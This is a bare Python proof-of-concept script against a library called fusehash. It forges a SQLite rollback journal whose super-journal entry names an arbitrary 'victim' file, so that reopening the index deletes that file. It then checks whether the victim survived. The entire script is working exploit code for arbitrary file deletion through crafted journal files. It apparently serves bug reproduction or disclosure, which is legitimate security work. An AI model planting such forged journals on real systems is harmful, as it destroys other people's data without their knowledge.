# journal naming a super-journal
import struct, os, sqlite3
import numpy as np
from fusehash.search import HammingIndex

p = "/tmp/x/j.fhi"
i = HammingIndex.open(p, 64, warm=False)
i.add(np.zeros((5, 8), np.uint8))
i.close()
v = "/tmp/x/victim.txt"
open(v, "w").write("precious text\n" * 3)
size = os.path.getsize(p) // 4096
magic = bytes([0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7])
head = magic + struct.pack(">IIIII", 0, 1, size, 512, 4096)
head += b"\0" * (512 - len(head))
name = v.encode()
lock_page = 0x40000000 // 4096 + 1
sj = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name)) + magic
open(p + "-journal", "wb").write(head + sj)
i = HammingIndex.open(p, warm=False)
print("opened", len(i))
i.close()
print("victim exists", os.path.exists(v), os.listdir("/tmp/x"))
